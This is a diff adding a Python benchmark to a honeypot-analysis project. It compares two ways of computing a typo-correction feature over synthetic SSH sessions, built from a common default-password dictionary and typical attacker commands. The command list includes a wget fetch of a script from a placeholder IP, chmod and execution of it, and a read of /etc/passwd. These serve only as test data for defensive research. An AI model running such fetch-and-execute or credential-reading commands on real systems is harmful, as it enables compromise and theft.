@@ -0,0 +1,130 @@
+"""
+MICRO-BENCHMARK: command_correction_attempts
+
+confronta il vecchio calcolo (SequenceMatcher.ratio() su ogni coppia consecutiva di comandi / login falliti)
+con il kernel di CommandSimilarity usato da HoneyClusterData.get_command_correction_attempts.
+Le sessioni sono sintetiche: brute force con migliaia di login (dizionari di password) e sessioni interattive con errori di battitura.
+
+uso: python Benchmarks/bench_correction_attempts.py [numero_sessioni]
+"""
+import random
+import sys
+import time
+from difflib import SequenceMatcher
+from pathlib import Path
+
+# permette di lanciare lo script direttamente da riga di comando
+_ROOT = Path(__file__).resolve().parent.parent
+sys.path[:0] = [str(_ROOT)]
+
+import Zenodo.ZenodoDataReader as ZDR
+import MachineLearning.HoneyClusterData as HCD
+
+_USERS = ["root", "admin", "ubnt", "user", "test", "oracle", "pi", "support", "guest", "postgres"]
+_PASSWORDS = ["123456", "password", "admin", "root", "12345678", "qwerty", "1234", "raspberry", "admin123", "P@ssw0rd",
+              "toor", "changeme", "111111", "abc123", "letmein", "passw0rd", "root123", "default", "ubnt", "support"]
+_COMMANDS = ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "ls -la /tmp", "wget http://203.0.113.7/x.sh",
+             "cd /tmp; chmod +x x.sh; sh x.sh", "free -m", "ps aux", "whoami", "cat /etc/passwd"]
+
+
+def synthetic_sessions(n_sessions: int, seed: int = 42) -> list[tuple]:
+    """ (statuses, united_commands, user_pass) come li prepara ZenodoProcesser._sessions_to_features """
+    rnd = random.Random(seed)
+    sessions = []
+    for _ in range(n_sessions):
+        statuses, commands, logins = [], [], []
+        if rnd.random() < 0.6: # brute force
+            user = rnd.choice(_USERS)
+            for _ in range(rnd.randint(50, 2000)):
+                if rnd.random() < 0.1:
+                    user = rnd.choice(_USERS)
+                password = rnd.choice(_PASSWORDS)
+                if rnd.random() < 0.2:
+                    password += str(rnd.randint(0, 99))
+                statuses.append(ZDR.Status.LOGIN_FAILED.value)
+                logins.append((user, password))
+            statuses.append(ZDR.Status.LOGIN_SUCCESS.value)
+            logins.append((user, "admin"))
+        else: # interattiva, con errori di battitura corretti
+            statuses.append(ZDR.Status.LOGIN_SUCCESS.value)
+            logins.append(("root", "root"))
+            for _ in range(rnd.randint(2, 40)):
+                command = rnd.choice(_COMMANDS)
+                if rnd.random() < 0.3:
+                    i = rnd.randrange(len(command))
+                    statuses.append(ZDR.Status.COMMAND_FAILED.value)
+                    commands.append(command[:i] + command[i + 1:])
+                statuses.append(ZDR.Status.COMMAND_SUCCESS.value)
+                commands.append(command)
+        sessions.append((statuses, commands, logins))
+    return sessions
+
+
+"""
+//////////////////////////////////////////////////VECCHIO PERCORSO (riferimento)/////////////////////////////////////
+"""
+
+def _legacy_command_correction_attempts(statuses: list[int], united_commands: list[str], login_data: list[tuple[str]]) -> float:
+    valid_events = []
+    cmd_idx = 0
+    login_idx = 0
+    for s in statuses:
+        if ZDR.is_only_command(s):
+            if cmd_idx < len(united_commands):
+                valid_events.append((s, united_commands[cmd_idx], None))
+                cmd_idx += 1
+        elif ZDR.is_login(s):
+            if login_idx < len(login_data):
+                valid_events.append((s, None, login_data[login_idx]))
+                login_idx += 1
+
+    if len(valid_events) < 2:
+        return 0.0
+
+    corrections = 0
+    for i in range(1, len(valid_events)):
+        prev_status, prev_cmd, prev_login = valid_events[i - 1]
+        curr_status, curr_cmd, curr_login = valid_events[i]
+        if prev_status == ZDR.Status.COMMAND_FAILED.value and prev_cmd and curr_cmd:
+            len_diff = abs(len(prev_cmd) - len(curr_cmd))
+            command_similarity = SequenceMatcher(None, prev_cmd, curr_cmd).ratio()
+            if (len(prev_cmd) <= 3 and len_diff <= 1) or (command_similarity >= 0.70):
+                if prev_cmd != curr_cmd:
+                    corrections += 1
+        elif prev_status == ZDR.Status.LOGIN_FAILED.value and prev_login and curr_login:
+            user_similarity = SequenceMatcher(None, prev_login[0], curr_login[0]).ratio()
+            password_similarity = SequenceMatcher(None, prev_login[1], curr_login[1]).ratio()
+            if ((0.7 <= user_similarity < 1.0 and password_similarity >= 0.9) or
+                    (user_similarity == 1.0 and 0.7 <= password_similarity < 1.0)):
+                corrections += 1
+    return corrections / len(valid_events)
+
+
+def _seconds(correction_function, sessions: list[tuple], repeat: int = 3) -> float:
+    best = float("inf")
+    for _ in range(repeat):
+        start = time.perf_counter()
+        for statuses, commands, logins in sessions:
+            correction_function(statuses, commands, logins)
+        best = min(best, time.perf_counter() - start)
+    return best
+
+
+def run(n_sessions: int = 300):
+    sessions = synthetic_sessions(n_sessions)
+    events = sum(len(statuses) for statuses, _, _ in sessions)
+
+    # stesse decisioni: il valore della feature deve essere identico
+    for statuses, commands, logins in sessions:
+        assert _legacy_command_correction_attempts(statuses, commands, logins) == HCD.get_command_correction_attempts(statuses, commands, logins)
+
+    before = _seconds(_legacy_command_correction_attempts, sessions)
+    after = _seconds(HCD.get_command_correction_attempts, sessions)
+    print(f"sessions: {n_sessions}, events: {events}")
+    print(f"before (SequenceMatcher)   : {events / before:,.0f} events/s")
+    print(f"after  (similarity kernel) : {events / after:,.0f} events/s")
+    print(f"speedup                    : {before / after:.2f}x")
+
+
+if __name__ == "__main__":
+    run(int(sys.argv[1]) if len(sys.argv) > 1 else 300)